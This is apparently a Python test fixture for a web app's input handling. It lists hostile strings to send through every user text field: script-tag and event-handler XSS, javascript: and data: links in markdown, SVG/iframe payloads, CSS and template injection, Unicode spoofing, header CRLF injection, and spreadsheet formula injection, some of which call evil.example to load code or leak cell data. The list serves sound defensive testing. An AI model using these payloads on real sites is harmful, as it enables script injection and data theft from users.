"""Hostile input: what people paste, type or send on purpose to make a page run code, load
something from elsewhere, break its layout or poison a spreadsheet."""

#: Every string goes through every text field a user can fill (packed several to a request
#: where the field's limit allows).
HOSTILE = [
    # Script tags, plain and disguised.
    "<script>alert('cg-xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "\"><script>alert(3)</script>",
    "'><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "<<script>alert(7);//<</script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    # Event handlers in many forms.
    "<img src=x onerror=alert(8)>",
    "<body onload=alert(9)>",
    "<div onmouseover=\"alert(10)\">hover</div>",
    "<a href=\"#\" onclick=\"alert(11)\">click</a>",
    "<input autofocus onfocus=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<img/src=x/onerror=alert(14)>",
    "<IMG SRC=x OnErRoR=alert(15)>",
    "\" onmouseover=\"alert(16)",
    "' onfocus='alert(17)' autofocus='",
    "<video><source onerror=alert(18)></video>",
    "<marquee onstart=alert(19)>m</marquee>",
    "<p hx-on:click=\"alert(20)\" hx-get=\"https://evil.example/\" hx-trigger=\"load\">htmx</p>",
    "<div hx-post=\"/sign-out\" hx-trigger=\"load\" hx-vals='{\"a\": 1}'>x</div>",
    # javascript:, vbscript:, data: URLs, obfuscated.
    "[click-21](javascript:alert(21))",
    "[click-22](JaVaScRiPt:alert(22))",
    "[click-23](java&#x09;script:alert(23))",
    "[click-24](&#106;avascript:alert(24))",
    "[click-25](vbscript:msgbox(25))",
    "[click-26](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4=)",
    "[click-27](javascript&colon;alert(27))",
    "[click-28](%6Aavascript:alert(28))",
    "[click-29](<javascript:alert(29)>)",
    "<a href=\"javascript:alert(30)\">raw link</a>",
    "<a href=\"&#x6A;avascript:alert(31)\">entity link</a>",
    # Markdown link and image tricks.
    "![img-32](javascript:alert(32))",
    "![img-33](https://evil.example/track.png)",
    "![img-34](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzQpPg==)",
    "<javascript:alert(35)>",
    "<https://evil.example/\"onmouseover=\"alert(36)>",
    "[ref-37][evil37]\n\n[evil37]: javascript:alert(37)",
    "[t-38](https://ok.example \"title\\\" onmouseover=\\\"alert(38)\")",
    "[t-39](https://ok.example '<script>alert(39)</script>')",
    "[t-40](https://ok.example \"<img src=x onerror=alert(40)>\")",
    "[![nested-41](javascript:alert(41))](javascript:alert(41))",
    # SVG, MathML, frames, objects, forms, base, meta.
    "<svg onload=alert(42)>",
    "<svg><script>alert(43)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(44)\"><text x=\"0\" y=\"10\">svg</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(45)>",
    "<iframe src=\"javascript:alert(46)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(47)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(48)</script>\"></object>",
    "<embed src=\"javascript:alert(49)\">",
    "<form action=\"https://evil.example/\"><button>Sign here</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # CSS injection.
    "<style>body{background:url(javascript:alert(50))}</style>",
    "<div style=\"width:expression(alert(51))\">css</div>",
    "<p style=\"background-image:url('javascript:alert(52)')\">bg</p>",
    "</style><style>@import 'https://evil.example/x.css';</style>",
    # Breaking out of comments, CDATA, templates; already-escaped text.
    "<!-- unclosed comment",
    "<![CDATA[<script>alert(53)</script>]]>",
    "{{ config.SECRET_KEY }} {% raw %}{{ 7*7 }}{% endraw %}",
    "&lt;script&gt;alert(54)&lt;/script&gt;",
    # Unicode: right-to-left override, zero-width characters, NUL, combining marks, astral.
    "invoice\u202egnp.exe\u202c agreed",
    "zero\u200bwidth\u200djoiner\u2060word\ufeffjoin",
    "nul\x00byte",
    ("Z\u0335\u0321\u0322\u031b\u0317\u0318\u0319\u031c\u031d\u031e\u031f\u0320\u030a"
     "\u030b\u030c\u030d\u030e\u030f\u0310\u0311\u0312algo"),
    "\U0001d54f \U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467 astral",
    "line\r\nSet-Cookie: evil=1\r\nbreak",
    "\u2028line separator\u2029paragraph separator",
    # Formula injection for CSV and spreadsheets.
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=cmd|' /C notepad'!'A1'",
]

#: Longer than every field allows but the section text: each is sent on its own and must be
#: refused with a message (or, for the section text, accepted and shown as text).
LONG = [
    "<script>alert('long')</script>" * 1500,
    "\u202e" + "A" * 300_000,
]

#: Characters a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
